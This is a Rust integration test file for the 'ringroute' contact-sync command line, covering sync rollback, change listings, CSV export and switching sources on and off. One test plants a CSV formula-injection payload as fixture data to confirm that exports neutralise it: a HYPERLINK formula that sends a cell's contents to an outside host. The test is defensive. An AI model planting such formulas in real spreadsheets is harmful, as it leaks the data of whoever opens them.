//! The command line: what runs changed, rolling back, sources on and off. The program itself, against a real server.
#![expect(clippy::unwrap_used, reason = "a test may stop at the first surprise")]

mod support;

use std::process::{Command, Output, Stdio};

use serde_json::Value;
use support::{COMPANY, Server, make_company};

fn run(server: &Server, arguments: &[&str]) -> Output {
    let mut command = Command::new(env!("CARGO_BIN_EXE_ringroute"));
    command
        .args(arguments)
        .stdin(Stdio::null())
        .env("RINGROUTE_SERVER", format!("http://{}", server.address));
    command.output().unwrap()
}

#[track_caller]
fn ended_with(output: &Output, code: i32) -> (String, String) {
    let text = |bytes: &[u8]| String::from_utf8(bytes.to_vec()).unwrap();
    let (out, err) = (text(&output.stdout), text(&output.stderr));
    assert_eq!(output.status.code(), Some(code), "{out}{err}");
    (out, err)
}

#[track_caller]
fn text(server: &Server, arguments: &[&str]) -> String {
    ended_with(&run(server, arguments), 0).0
}

#[track_caller]
fn json(server: &Server, arguments: &[&str]) -> Value {
    let arguments: Vec<&str> = arguments.iter().copied().chain(["--json"]).collect();
    serde_json::from_str(&text(server, &arguments)).unwrap()
}

async fn company_and_a_day_later() -> (Server, String) {
    let server = Server::start_with_company().await;
    let mut later = COMPANY;
    later[0].2 = "King";
    make_company(&server.company(), &later[..3]);
    let run = server.synchronise("crm").await;
    (server, run.run_id.to_string())
}

#[tokio::test(flavor = "multi_thread")]
async fn a_rollback_is_told_agreed_to_and_done() {
    let (server, run_id) = company_and_a_day_later().await;
    let told = text(&server, &["sync", "rollback", &run_id, "--dry-run"]);
    assert!(
        told.contains(&format!("Going back to before run {run_id} of crm would undo run {run_id}")),
        "{told}"
    );
    assert!(told.contains("1 added, 1 changed, 0 moved, 0 removed, 2 unchanged"), "{told}");
    let plan = json(&server, &["sync", "rollback", &run_id, "--dry-run"]);
    assert_eq!((&plan["source"], &plan["counts"]["added"]), (&"crm".into(), &"1".into()));

    // Nobody can be asked, so nothing happens.
    for arguments in [&["sync", "rollback", &run_id][..], &["sync", "rollback", &run_id, "--json"]] {
        let (_, error) = ended_with(&run(&server, arguments), 2);
        assert!(error.contains("--yes"), "{error}");
    }
    assert!(text(&server, &["match", "+49 30 901820"]).contains("Ada King"));

    let done = text(&server, &["sync", "rollback", &run_id, "--yes"]);
    assert!(done.contains(&format!("Rolled crm back to before run {run_id}: 4 contacts")), "{done}");
    assert!(done.contains("ringroute sources disable crm"), "{done}");
    assert!(text(&server, &["match", "+49 30 901820"]).contains("Ada Lovelace"));
    let history = text(&server, &["sync", "history", "crm"]);
    assert!(history.lines().nth(1).unwrap().contains("rollback"), "{history}");
    let back = json(&server, &["sync", "history"])["runs"][0]["runId"].as_str().unwrap().to_owned();
    let shown = text(&server, &["sync", "show", &back]);
    assert!(shown.contains(&format!("back to before run {run_id}")), "{shown}");

    let again = json(&server, &["sync", "rollback", &back, "--yes"]);
    assert_eq!(
        (&again["state"], &again["kind"]),
        (&"SYNC_RUN_STATE_SUCCEEDED".into(), &"SYNC_RUN_KIND_ROLLBACK".into())
    );
    assert!(text(&server, &["match", "+49 30 901820"]).contains("Ada King"));
    ended_with(&run(&server, &["sync", "rollback", "99", "--yes"]), 4);
}

#[tokio::test(flavor = "multi_thread")]
async fn changes_are_listed_and_written_as_csv() {
    let (server, run_id) = company_and_a_day_later().await;
    let shown = text(&server, &["sync", "show", &run_id, "--changes"]);
    assert!(shown.contains("last_name: \"Lovelace\" -> \"King\""), "{shown}");
    let listed = json(&server, &["sync", "show", &run_id, "--changes"]);
    let kinds: Vec<&Value> =
        listed["changes"].as_array().unwrap().iter().map(|change| &change["kind"]).collect();
    assert_eq!(kinds, ["SYNC_CHANGE_KIND_CHANGED", "SYNC_CHANGE_KIND_REMOVED"]);

    let written = text(&server, &["sync", "show", &run_id, "--changes", "--csv"]);
    let mut reader = csv::Reader::from_reader(written.as_bytes());
    let header: Vec<String> = reader.headers().unwrap().iter().map(str::to_owned).collect();
    assert_eq!(header.len(), 9);
    let rows: Vec<Vec<String>> =
        reader.records().map(|row| row.unwrap().iter().map(str::to_owned).collect()).collect();
    assert_eq!(rows[0], ["1", "1", "Ada King", "changed", "Sales", "Sales", "last_name", "Lovelace", "King"]);
    assert_eq!(rows.iter().filter(|row| row[3] == "removed").count(), 4, "a row for each field that it had");
    for wrong in [&["sync", "show", "1", "--csv"][..], &["sync", "show", "1", "--changes", "--problems"]] {
        ended_with(&run(&server, wrong), 2);
    }
}

/// What is in the rejects came from somebody else's database, and goes into somebody's spreadsheet.
#[tokio::test(flavor = "multi_thread")]
async fn rejects_are_csv_that_no_spreadsheet_takes_for_formulas() {
    let server = Server::start_with_company().await;
    let database = rusqlite::Connection::open(server.company()).unwrap();
    database.execute_batch("CREATE TABLE odd (id TEXT, last TEXT, tel TEXT, belongto TEXT)").unwrap();
    let evil = "=HYPERLINK(\"http://x/?\"&A1,\"a, b\")";
    for (key, last, tel) in
        [("=1+1", "A", ""), ("2", "B", evil), ("@x", "C", "n/a"), ("4", "Good", "+49 30 1234567")]
    {
        database.execute("INSERT INTO odd VALUES (?, ?, ?, 'Odd')", [key, last, tel]).unwrap();
    }
    let settings = server.settings().replace("main.people", "main.odd").replace(
        "first_name = \"first\", last_name = \"last\", company = \"company\"",
        "last_name = \"last\"",
    );
    let settings = settings.replace(
        "phonebook = { by_property = { column = \"belongto\" } }",
        "phonebook = { by_property = { column = \"belongto\" } }\nguard = { max_rejected_percent = 0 }",
    );
    server.apply(&settings).await;
    let run_id = server.synchronise("crm").await.run_id.to_string();
    let written = text(&server, &["sync", "show", &run_id, "--problems", "--csv"]);
    let mut reader = csv::Reader::from_reader(written.as_bytes());
    let rows: Vec<Vec<String>> =
        reader.records().map(|row| row.unwrap().iter().map(str::to_owned).collect()).collect();
    let cells = |row: usize| [rows[row][1].as_str(), rows[row][2].as_str(), rows[row][3].as_str()];
    assert_eq!(rows.len(), 3, "{written}");
    // In the order of the sync filter, by id.
    assert_eq!(cells(0), ["2", "tel", &format!("'{evil}")]);
    assert_eq!(cells(1), ["'=1+1", "", ""]);
    assert_eq!(cells(2), ["'@x", "tel", "n/a"]);
    assert!(rows.iter().all(|row| row[4] == "row rejected" && !row[5].is_empty()));
}

#[tokio::test(flavor = "multi_thread")]
async fn sources_are_switched_off_and_on_and_deleted() {
    let (server, _) = company_and_a_day_later().await;
    assert!(text(&server, &["sources", "disable", "crm"]).contains("its 3 contacts stay as they are"));
    ended_with(&run(&server, &["sync", "run", "crm"]), 5);
    assert!(text(&server, &["sources", "enable", "CRM"]).contains("Source crm is on"));
    text(&server, &["sync", "run", "crm"]);
    assert_eq!(json(&server, &["sources", "disable", "crm", "--contacts", "remove"])["contactCount"], "0");
    assert_eq!(json(&server, &["phonebooks"])["phonebooks"], serde_json::json!([]));
    text(&server, &["sources", "enable", "crm"]);
    text(&server, &["sync", "run", "crm"]);
    let (_, error) = ended_with(&run(&server, &["sources", "delete", "crm"]), 5);
    assert!(error.contains("has 3 contacts"), "{error}");
    assert!(
        text(&server, &["sources", "delete", "crm", "--contacts", "keep"]).contains("3 contacts are local")
    );
    assert_eq!(json(&server, &["sources"])["sources"], serde_json::json!([]));
    assert!(text(&server, &["match", "+49 30 901820"]).contains("Ada King"));
    ended_with(&run(&server, &["sources", "disable", "crm"]), 4);
}
